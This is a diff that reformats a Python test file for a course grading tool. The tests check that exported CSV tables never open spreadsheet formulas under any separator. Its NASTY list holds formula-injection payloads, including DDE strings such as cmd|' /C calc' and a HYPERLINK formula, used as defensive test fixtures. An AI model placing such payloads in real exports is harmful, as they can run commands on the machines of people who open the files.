@@ -1,4 +1,6 @@
-"""Every table that the course writes, opened by spreadsheets that split it at something else than the comma: no cell may open a formula."""
+"""Every table that the course writes, opened by spreadsheets that split it at something else than the comma: no cell
+may open a formula.
+"""
 
 import csv
 import io
@@ -23,14 +25,52 @@ OPENS = re.compile(rf'[\s"]*[{re.escape(SIGNS)}](?![0-9.]+$)')
 LOUD = re.compile(rf'[\s"]*(?:[=@＝＠﹦﹫]\S|[{re.escape(SIGNS)}][^\s(|!]*[(|!])')
 SEPARATORS = [",", ";", "\t", "|", ",;\t", ";\t", ",|", ";|", "\t|", ",;\t|"]
 NASTY = [
-    'word;=HYPERLINK("http://example.org/"&A1)', "x;=1+1", "x; =1+1", 'x;"=1+1', 'x;" = 1+1', "x\t=1", "x\t+1", "x|=1", "x|@SUM(A1)", "x\n=1", "x\n;-cmd|' /C calc'!A0", "x;＝1+1", "x;＋1", "x;－1", "x;＠A",
-    "x;﹦1", 'a,"b;=1,"c;=2', '";=1"', "'';=1", "=1;=2;=3", ";;;=1", ";\t|=1", "x;\u3000=1", "x;\u00a0=1", 'x;"";"=1"', "x;\r\n=1", "x\r=1", ",=1", ', "=1', '",=1', "-1;-1", "x;-1+cmd|' /C calc'!A0",
-    "+1", "@a", '"=1"', "“;=1”", "x;==1", "x;'=1", 'x;""=1',
-]  # fmt: skip
+    'word;=HYPERLINK("http://example.org/"&A1)',
+    "x;=1+1",
+    "x; =1+1",
+    'x;"=1+1',
+    'x;" = 1+1',
+    "x\t=1",
+    "x\t+1",
+    "x|=1",
+    "x|@SUM(A1)",
+    "x\n=1",
+    "x\n;-cmd|' /C calc'!A0",
+    "x;＝1+1",
+    "x;＋1",
+    "x;－1",
+    "x;＠A",
+    "x;﹦1",
+    'a,"b;=1,"c;=2',
+    '";=1"',
+    "'';=1",
+    "=1;=2;=3",
+    ";;;=1",
+    ";\t|=1",
+    "x;\u3000=1",
+    "x;\u00a0=1",
+    'x;"";"=1"',
+    "x;\r\n=1",
+    "x\r=1",
+    ",=1",
+    ', "=1',
+    '",=1',
+    "-1;-1",
+    "x;-1+cmd|' /C calc'!A0",
+    "+1",
+    "@a",
+    '"=1"',
+    "“;=1”",
+    "x;==1",
+    "x;'=1",
+    'x;""=1',
+]
 
 
 def cells(text, separators):
-    """Split as LibreOffice does: a quotation mark opens a quoted cell only where a cell begins; what follows its end up to the next separator is added as it stands."""
+    """Split as LibreOffice does: a quotation mark opens a quoted cell only where a cell begins; what follows its end up
+    to the next separator is added as it stands.
+    """
     place, row_end = 0, "\n"
     text = text.removeprefix("\ufeff")
     while place < len(text):
@@ -59,7 +99,9 @@ def test_the_imitation_splits_at_commas_as_the_csv_module_does():
 
 
 def opening(text):
-    return {(separators, cell) for separators in SEPARATORS for cell in cells(text, separators) if OPENS.match(cell)} | {(" ", cell) for cell in cells(text, " ,") if LOUD.match(cell)}
+    return {
+        (separators, cell) for separators in SEPARATORS for cell in cells(text, separators) if OPENS.match(cell)
+    } | {(" ", cell) for cell in cells(text, " ,") if LOUD.match(cell)}
 
 
 @pytest.mark.parametrize("text", NASTY)
@@ -67,18 +109,40 @@ def opening(text):
 def test_no_text_opens_a_formula_wherever_it_is_split(text, before):
     line = safe.row((*before, text, "end"))
     assert not opening(line), line
-    assert not opening(safe.row((text,))) and not opening(safe.row(before)[:-1] + "," + safe.json_field(json.dumps(text, ensure_ascii=False)) + "\n")
+    assert not opening(safe.row((text,))) and not opening(
+        safe.row(before)[:-1] + "," + safe.json_field(json.dumps(text, ensure_ascii=False)) + "\n"
+    )
     (read,) = [one for one in csv.reader(io.StringIO(line, newline=""))]
     assert len(read) == len(before) + 2 and safe.cell(read[-2]) == read[-2], "made harmless twice it stays the same"
 
 
 def test_the_imitation_would_find_what_is_not_guarded():
-    assert opening('a,"word;=HYPERLINK(1)",b\n') and opening("a,x\t=1,b\n") and opening('a,"x;""=1",b\n') and opening("a, =SUM(1),b\n")
+    assert (
+        opening('a,"word;=HYPERLINK(1)",b\n')
+        and opening("a,x\t=1,b\n")
+        and opening('a,"x;""=1",b\n')
+        and opening("a, =SUM(1),b\n")
+    )
 
 
-@pytest.mark.parametrize("text", [*NASTY, "plain words", "Vor- und Nachname - so", "a -b", "5 - 3 = 2", "ana@example.org", "Kim, Lee", "x;y", "2001-08-04", "C++ and a+b"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        *NASTY,
+        "plain words",
+        "Vor- und Nachname - so",
+        "a -b",
+        "5 - 3 = 2",
+        "ana@example.org",
+        "Kim, Lee",
+        "x;y",
+        "2001-08-04",
+        "C++ and a+b",
+    ],
+)
 def test_what_is_made_harmless_can_be_read_back(text):
-    # carriage returns become line ends, and an apostrophe that somebody wrote before a sign is taken for one of ours: neither stands in an id
+    # carriage returns become line ends, and an apostrophe that somebody wrote before a sign is taken for one of ours:
+    # neither stands in an id
     if "\r" not in text and ";'=" not in text:
         assert safe.plain(safe.cell(text)) == text
     field = safe.json_field(json.dumps(text, ensure_ascii=False))
@@ -86,7 +150,19 @@ def test_what_is_made_harmless_can_be_read_back(text):
     assert json.loads(row[0]) == text, "an answer as data stays what it was"
 
 
-@pytest.mark.parametrize("text", ["Vor- und Nachname - so", "a -b", "5 - 3 is 2", "ana@example.org", "2001-08-04", "C++ and a+b", "x;y", "it said, - and then"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Vor- und Nachname - so",
+        "a -b",
+        "5 - 3 is 2",
+        "ana@example.org",
+        "2001-08-04",
+        "C++ and a+b",
+        "x;y",
+        "it said, - and then",
+    ],
+)
 def test_ordinary_texts_stay_as_they_are(text):
     assert safe.cell(text) == text
 
@@ -105,10 +181,16 @@ def book_and_tables(tmp_path_factory, assignment, good):
     (folder / "class").mkdir()
     for number, text in enumerate(NASTY):
         name = re.sub(r"[/\r\n\0]", "_", text)[:60]
-        notebook = _with(good(number), "q10", lambda _, output, text=text: output["data"][MIME].update(answer=text + " and some words more"))
+        notebook = _with(
+            good(number),
+            "q10",
+            lambda _, output, text=text: output["data"][MIME].update(answer=text + " and some words more"),
+        )
         notebook["metadata"]["student"] = text
         (folder / "class" / f"ex90_handin_{number}{name}.ipynb").write_bytes(encoded(notebook))
-        (folder / "class" / f"{name}.ipynb").write_bytes(encoded(_with(good(number), "q1", lambda _, output, text=text: output["data"][MIME].update(answer=text))))
+        (folder / "class" / f"{name}.ipynb").write_bytes(
+            encoded(_with(good(number), "q1", lambda _, output, text=text: output["data"][MIME].update(answer=text)))
+        )
         (folder / "class" / f"{name}.docx").write_bytes(b"none")
     grade(folder / "class", assignment, folder / "out", gradebook=folder / "book.sqlite")
     return folder
@@ -119,8 +201,12 @@ def test_no_table_of_a_nasty_class_opens_a_formula(book_and_tables):
     assert [path.name for path in tables] == ["answers.csv", "grades.csv", "problems.csv"]
     for path in tables:
         assert not opening(path.read_text("utf-8")), path.name
-    rows = list(csv.DictReader(io.StringIO((book_and_tables / "out" / "answers.csv").read_text("utf-8-sig"), newline="")))
-    given = {json.loads(row["answer_json"]) for row in rows if row["question"] == "ex90.q10" and row["status"] == "to mark"}
+    rows = list(
+        csv.DictReader(io.StringIO((book_and_tables / "out" / "answers.csv").read_text("utf-8-sig"), newline=""))
+    )
+    given = {
+        json.loads(row["answer_json"]) for row in rows if row["question"] == "ex90.q10" and row["status"] == "to mark"
+    }
     assert {text + " and some words more" for text in NASTY if "\r" not in text} <= given
 
 
@@ -134,20 +220,36 @@ def test_exports_open_no_formula(book_and_tables, assignment, tmp_path):
 
 
 def test_the_tables_of_agreement_open_no_formula(book_and_tables):
-    from seminar.cli.agree import _guarded
-
     import pandas as pd
+
+    from seminar.cli.agree import _guarded
 
     frame = pd.DataFrame({"unit": NASTY, "share": -0.5})
     written = _guarded(frame).to_csv(index=False, lineterminator="\n")
     assert not opening(written) and written.count("-0.5") == len(NASTY)
 
 
-@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed here; the splitting is imitated above")
+@pytest.mark.skipif(
+    shutil.which("soffice") is None, reason="LibreOffice is not installed here; the splitting is imitated above"
+)
 @pytest.mark.parametrize("codes", ["44", "59", "9", "124", "44/59/9", "32"])
 def test_libreoffice_finds_no_formula(codes, book_and_tables, tmp_path):
     for path in sorted((book_and_tables / "out").glob("*.csv")):
-        subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", f"--infilter=CSV:{codes},34,76,1,,,,,,,,,true", "--convert-to", "fods", "--outdir", str(tmp_path), str(path)], check=True, capture_output=True)
+        subprocess.run(
+            [
+                "soffice",
+                "--headless",
+                f"-env:UserInstallation=file://{tmp_path}/profile",
+                f"--infilter=CSV:{codes},34,76,1,,,,,,,,,true",
+                "--convert-to",
+                "fods",
+                "--outdir",
+                str(tmp_path),
+                str(path),
+            ],
+            check=True,
+            capture_output=True,
+        )
         assert "table:formula=" not in (tmp_path / f"{path.stem}.fods").read_text("utf-8"), path.name
 
 
@@ -159,4 +261,6 @@ def test_no_text_at_all_opens_a_formula_and_data_stay_data(texts):
         field = safe.json_field(json.dumps(text, ensure_ascii=False))
         assert not opening(f"a,{field},1\n")
         assert json.loads(next(csv.reader(io.StringIO(field, newline="")))[0]) == text
-        assert safe.cell(safe.cell(text)) == safe.cell(text) and safe.cell(safe.plain(safe.cell(text))) == safe.cell(text)
+        assert safe.cell(safe.cell(text)) == safe.cell(text) and safe.cell(safe.plain(safe.cell(text))) == safe.cell(
+            text
+        )
